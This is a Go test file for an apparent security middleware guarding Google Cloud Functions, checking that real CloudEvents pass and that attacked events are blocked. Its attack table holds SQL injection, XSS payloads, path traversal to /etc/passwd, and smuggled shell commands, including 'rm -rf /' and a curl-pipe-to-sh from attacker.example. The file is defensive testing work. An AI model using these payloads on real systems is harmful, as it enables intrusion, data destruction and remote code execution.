package guardgcf_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/GoogleCloudPlatform/functions-framework-go/funcframework"
	"github.com/cloudevents/sdk-go/v2/event"

	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/internal/fftest"
	"github.com/fnguard/fnguard/middleware/guardgcf"
)

// Real Google Cloud events written by others (testdata/real, each folder
// with its NOTICE and LICENSE): the Functions Framework conformance inputs
// (CloudEvents and legacy background events) and the google-cloudevents
// examples and test data. Every one is POSTed to functions-framework-go,
// serving guardgcf.CloudEvent on 127.0.0.1, and must reach the function.
// The copies beside the repository (../shared/fixtures/events) are sent too
// when present.

// ffServer is functions-framework-go serving one guarded CloudEvent
// function; the guard and the function's record are swapped per test.
var ffServer struct {
	fftest.Server

	mu   sync.Mutex
	g    *guard.Guard
	got  []event.Event
	wrap func(context.Context, event.Event) error
}

func init() {
	ffServer.Register = func() error {
		fn := func(ctx context.Context, e event.Event) error {
			ffServer.mu.Lock()
			wrap := ffServer.wrap
			ffServer.mu.Unlock()
			return wrap(ctx, e)
		}
		return funcframework.RegisterCloudEventFunctionContext(context.Background(), "/fnguard-real", fn)
	}
}

// startFF returns the URL of the served function, starting the framework
// on first use.
func startFF(t *testing.T) string {
	t.Helper()
	return ffServer.URL(t) + "/fnguard-real"
}

// useGuard makes the served function guardgcf.CloudEvent(g, record).
func useGuard(g *guard.Guard) {
	ffServer.mu.Lock()
	defer ffServer.mu.Unlock()
	ffServer.got = nil
	ffServer.wrap = guardgcf.CloudEvent(g, func(_ context.Context, e event.Event) error {
		ffServer.mu.Lock()
		ffServer.got = append(ffServer.got, e)
		ffServer.mu.Unlock()
		return nil
	})
}

func delivered() int {
	ffServer.mu.Lock()
	defer ffServer.mu.Unlock()
	return len(ffServer.got)
}

// ceMeta gives the data-only files (binary content mode) their context
// attributes: ce-type from the cloud_event_type of the matching proto in
// google-cloudevents, ce-source in the product's documented format.
var ceMeta = []struct {
	dir, typ, source, subject string
}{
	{"/audit/", "google.cloud.audit.log.v1.written", "//cloudaudit.googleapis.com/projects/sample-project/logs/activity", ""},
	{"/cloudbuild/", "google.cloud.cloudbuild.build.v1.statusChanged", "//cloudbuild.googleapis.com/projects/sample-project/locations/global/builds/b-1", ""},
	{"/firestore/", "google.cloud.firestore.document.v1.written", "//firestore.googleapis.com/projects/project-id/databases/(default)", "documents/gcf-test/2Vm2mI1d0wIaK2Waj5to"},
	{"/pubsub/", "google.cloud.pubsub.topic.v1.messagePublished", "//pubsub.googleapis.com/projects/sample-project/topics/gcf-test", ""},
	{"/scheduler/", "google.cloud.scheduler.job.v1.executed", "//cloudscheduler.googleapis.com/projects/sample-project/locations/us-central1/jobs/nightly", ""},
	{"/storage/", "google.cloud.storage.object.v1.finalized", "//storage.googleapis.com/projects/_/buckets/", "objects/"},
	{"/firebase/analytics/", "google.firebase.analytics.log.v1.written", "//firebaseanalytics.googleapis.com/projects/sample-project/apps/com.example.app", ""},
	{"/firebase/auth/", "google.firebase.auth.user.v1.created", "//firebaseauth.googleapis.com/projects/sample-project", ""},
	{"/firebase/database/", "google.firebase.database.ref.v1.written", "//firebasedatabase.googleapis.com/projects/_/locations/us-central1/instances/sample-project", "refs/gcf-test/xyz"},
	{"/firebasealerts/", "google.firebase.firebasealerts.alerts.v1.published", "//firebasealerts.googleapis.com/projects/sample-project", ""},
	{"/remoteconfig/", "google.firebase.remoteconfig.remoteConfig.v1.updated", "//firebaseremoteconfig.googleapis.com/projects/sample-project", ""},
	{"/testlab/", "google.firebase.testlab.testMatrix.v1.completed", "//firebasetestlab.googleapis.com/projects/sample-project", ""},
}

// gcpRefused lists the inputs that are refused, with why; every other input
// must reach the function.
var gcpRefused = map[string]string{}

type gcpEvent struct {
	rel, path string
}

func gcpEvents(t *testing.T) []gcpEvent {
	roots := []string{filepath.Join("testdata", "real")}
	shared := filepath.Join("..", "..", "..", "shared", "fixtures", "events")
	if _, err := os.Stat(shared); err == nil {
		roots = append(roots, filepath.Join(shared, "ff-conformance"), filepath.Join(shared, "google-cloudevents"))
	}
	var evs []gcpEvent
	for _, root := range roots {
		base := root
		if filepath.Base(root) != "real" {
			base = filepath.Dir(root)
		}
		err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || !strings.HasSuffix(p, ".json") {
				return err
			}
			rel, _ := filepath.Rel(base, p)
			evs = append(evs, gcpEvent{filepath.ToSlash(rel), p})
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return evs
}

// request builds the HTTP request the platform would send for a fixture.
func gcpRequest(t *testing.T, url, rel string, body []byte) *http.Request {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	switch {
	case strings.HasSuffix(rel, "-cloudevent-input.json") || strings.Contains(rel, "/examples/structured/"):
		req.Header.Set("Content-Type", "application/cloudevents+json")
	case strings.HasSuffix(rel, "-legacy-input.json"):
		req.Header.Set("Content-Type", "application/json") // a background event: the framework converts it
	default:
		var meta *struct{ dir, typ, source, subject string }
		for i := range ceMeta {
			if strings.Contains(rel, ceMeta[i].dir) {
				meta = &ceMeta[i]
				break
			}
		}
		if meta == nil {
			t.Fatalf("no ce-type for %s", rel)
		}
		source, subject := meta.source, meta.subject
		if meta.dir == "/storage/" {
			var d struct{ Bucket, Name string }
			_ = json.Unmarshal(body, &d)
			source += d.Bucket
			subject += d.Name
		}
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("ce-specversion", "1.0")
		req.Header.Set("ce-id", "real-"+filepath.Base(rel))
		req.Header.Set("ce-type", meta.typ)
		req.Header.Set("ce-source", source)
		if subject != "" {
			req.Header.Set("ce-subject", subject)
		}
	}
	return req
}

func TestRealCloudEventsPass(t *testing.T) {
	url := startFF(t)
	g, logs := newGuard(t)
	useGuard(g)
	passed, refused := 0, 0
	for _, ev := range gcpEvents(t) {
		t.Run(ev.rel, func(t *testing.T) {
			body, err := os.ReadFile(ev.path)
			if err != nil {
				t.Fatal(err)
			}
			before, n := delivered(), logs.Len()
			resp, err := http.DefaultClient.Do(gcpRequest(t, url, ev.rel, body))
			if err != nil {
				t.Fatal(err)
			}
			out, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if why, ok := gcpRefused[ev.rel]; ok {
				refused++
				if delivered() != before || resp.StatusCode == http.StatusOK {
					t.Fatalf("want refusal (%s), got %d", why, resp.StatusCode)
				}
				return
			}
			if resp.StatusCode != http.StatusOK || delivered() != before+1 {
				t.Fatalf("legitimate event refused: %d %s; logs %v", resp.StatusCode, out, logs.All()[n:])
			}
			passed++
		})
	}
	t.Logf("%d events passed, %d refused as listed", passed, refused)
}

// pb encodes protobuf wire format: length-delimited fields only (strings,
// bytes and embedded messages), enough for Firestore's DocumentEventData.
func pbField(num int, payload []byte) []byte {
	out := appendVarint(nil, uint64(num)<<3|2)
	out = appendVarint(out, uint64(len(payload)))
	return append(out, payload...)
}

func appendVarint(b []byte, v uint64) []byte {
	for v >= 0x80 {
		b = append(b, byte(v)|0x80)
		v >>= 7
	}
	return append(b, byte(v))
}

// firestoreDoc is a google.events.cloud.firestore.v1.DocumentEventData
// whose value (field 1) is a Document (name = 1, fields = 2, a map of
// string to Value; Value.string_value = 17, Value.map_value = 6 with
// MapValue.fields = 1).
func firestoreDoc(name string, fields map[string]string, nested map[string]string) []byte {
	var doc []byte
	doc = append(doc, pbField(1, []byte(name))...)
	for k, v := range fields {
		val := pbField(17, []byte(v))
		entry := append(pbField(1, []byte(k)), pbField(2, val)...)
		doc = append(doc, pbField(2, entry)...)
	}
	if len(nested) > 0 {
		var mv []byte
		for k, v := range nested {
			entry := append(pbField(1, []byte(k)), pbField(2, pbField(17, []byte(v)))...)
			mv = append(mv, pbField(1, entry)...)
		}
		entry := append(pbField(1, []byte("address")), pbField(2, pbField(6, mv))...)
		doc = append(doc, pbField(2, entry)...)
	}
	return pbField(1, doc)
}

// TestCloudEventFamilyAttacks: attacks planted in the client-controlled
// fields of each Google Cloud family, encoded as the platform sends them,
// are blocked (*guard.BlockedError, which the framework answers with a
// 500 so that the event is retried), and the same event without the attack
// reaches the function.
func TestCloudEventFamilyAttacks(t *testing.T) {
	url := startFF(t)
	const docName = "projects/shop/databases/(default)/documents/orders/o-1"
	read := func(rel string) []byte {
		b, err := os.ReadFile(filepath.Join("testdata", "real", rel))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	tests := []struct {
		name, typ, source, ctype string
		clean, attack            []byte
		wantSource               guard.Source
		wantLoc                  string
	}{
		{"Firestore protobuf: SQLi in a string value", "google.cloud.firestore.document.v1.written",
			"//firestore.googleapis.com/projects/shop/databases/(default)", "application/protobuf",
			firestoreDoc(docName, map[string]string{"note": "leave at the door"}, nil),
			firestoreDoc(docName, map[string]string{"note": "x" + "' OR '1'='1' --"}, nil),
			guard.SourceFirestore, "records[0].data<protobuf>*"},
		{"Firestore protobuf: XSS in a nested map value", "google.cloud.firestore.document.v1.created",
			"//firestore.googleapis.com/projects/shop/databases/(default)", "application/protobuf",
			firestoreDoc(docName, map[string]string{"status": "new"}, map[string]string{"city": "Lyon"}),
			firestoreDoc(docName, map[string]string{"status": "new"}, map[string]string{"city": "<script>alert(document.cookie)</script>"}),
			guard.SourceFirestore, "records[0].data<protobuf>*"},
		{"Firestore JSON: cmdi in a stringValue", "google.cloud.firestore.document.v1.written",
			"//firestore.googleapis.com/projects/project-id/databases/(default)", "application/json",
			read("google-cloudevents/testdata/google/events/cloud/firestore/v1/DocumentEventData-simple.json"),
			bytes.Replace(read("google-cloudevents/testdata/google/events/cloud/firestore/v1/DocumentEventData-simple.json"),
				[]byte(`"stringValue":"bar"`), []byte(`"stringValue":"bar; cat /etc/passwd"`), 1),
			guard.SourceFirestore, "records[0].body.*"},
		{"Cloud Scheduler: cmdi in base64 customData", "google.cloud.scheduler.job.v1.executed",
			"//cloudscheduler.googleapis.com/projects/shop/locations/us-central1/jobs/nightly", "application/json",
			read("google-cloudevents/testdata/google/events/cloud/scheduler/v1/SchedulerJobData-simple.json"),
			[]byte(`{"customData":"` + b64(`{"task":"export; rm -rf /"}`) + `"}`),
			guard.SourceScheduler, "records[0].data.customData<base64>*"},
		{"Firebase Realtime Database: XSS in the delta", "google.firebase.database.ref.v1.written",
			"//firebasedatabase.googleapis.com/projects/_/locations/us-central1/instances/shop", "application/json",
			read("google-cloudevents/testdata/google/events/firebase/database/v1/ReferenceEventData-simple.json"),
			[]byte(`{"data":null,"delta":{"comment":"<img src=x onerror=alert(1)>"}}`),
			guard.SourceFirebaseDatabase, "records[0].body.delta.comment"},
		{"Firebase Auth: SQLi in the display name", "google.firebase.auth.user.v1.created",
			"//firebaseauth.googleapis.com/projects/shop", "application/json",
			read("google-cloudevents/testdata/google/events/firebase/auth/v1/AuthEventData-complex.json"),
			[]byte(`{"uid":"u1","email":"a@example.com","displayName":"admin' OR '1'='1' --"}`),
			guard.SourceFirebaseAuth, "records[0].body.displayName"},
		{"Audit log: traversal in a request field", "google.cloud.audit.log.v1.written",
			"//cloudaudit.googleapis.com/projects/shop/logs/activity", "application/json",
			read("google-cloudevents/testdata/google/events/cloud/audit/v1/LogEntryData-pubsubCreateTopic.json"),
			[]byte(`{"protoPayload":{"methodName":"storage.objects.get","resourceName":"projects/_/buckets/b/objects/../../../../etc/passwd","requestMetadata":{"callerSuppliedUserAgent":"curl/8"}}}`),
			guard.SourceAuditLog, "records[0].body.protoPayload.resourceName"},
		{"Cloud Build: cmdi in a substitution", "google.cloud.cloudbuild.build.v1.statusChanged",
			"//cloudbuild.googleapis.com/projects/shop/locations/global/builds/b-1", "application/json",
			read("google-cloudevents/testdata/google/events/cloud/cloudbuild/v1/BuildEventData-simple.json"),
			[]byte(`{"id":"b-1","status":"SUCCESS","substitutions":{"_BRANCH":"main; curl http://attacker.example/x | sh"}}`),
			guard.SourceCloudBuild, "records[0].body.substitutions._BRANCH"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := guardgcf.Source(tt.typ); got != tt.wantSource {
				t.Fatalf("Source(%s) = %s, want %s", tt.typ, got, tt.wantSource)
			}
			g, logs := newGuard(t)
			useGuard(g)
			send := func(body []byte) int {
				req, err := http.NewRequest(http.MethodPost, url, bytes.NewReader(body))
				if err != nil {
					t.Fatal(err)
				}
				req.Header.Set("Content-Type", tt.ctype)
				req.Header.Set("ce-specversion", "1.0")
				req.Header.Set("ce-id", "atk-1")
				req.Header.Set("ce-type", tt.typ)
				req.Header.Set("ce-source", tt.source)
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				return resp.StatusCode
			}
			if code := send(tt.attack); code == http.StatusOK || delivered() != 0 {
				t.Fatalf("attack reached the function (status %d)", code)
			}
			if !findingAt(logs, tt.wantLoc) {
				t.Fatalf("no finding at %s: %v", tt.wantLoc, logs.All())
			}
			if code := send(tt.clean); code != http.StatusOK || delivered() != 1 {
				t.Fatalf("clean event: status %d, delivered %d; logs %v", code, delivered(), logs.All())
			}
		})
	}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
